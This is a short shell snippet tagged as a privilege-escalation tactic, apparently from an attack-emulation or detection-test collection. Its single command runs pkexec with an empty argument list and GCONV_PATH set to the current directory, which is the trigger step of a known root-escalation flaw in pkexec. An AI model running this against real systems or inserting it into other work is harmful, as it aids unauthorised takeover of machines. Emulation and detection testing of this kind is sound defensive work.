# tactic: privilege-escalation
# run pkexec with an empty argument list and a GCONV_PATH environment
GCONV_PATH=. perl -e 'exec {"/usr/bin/pkexec"} ()' 2>/dev/null; true
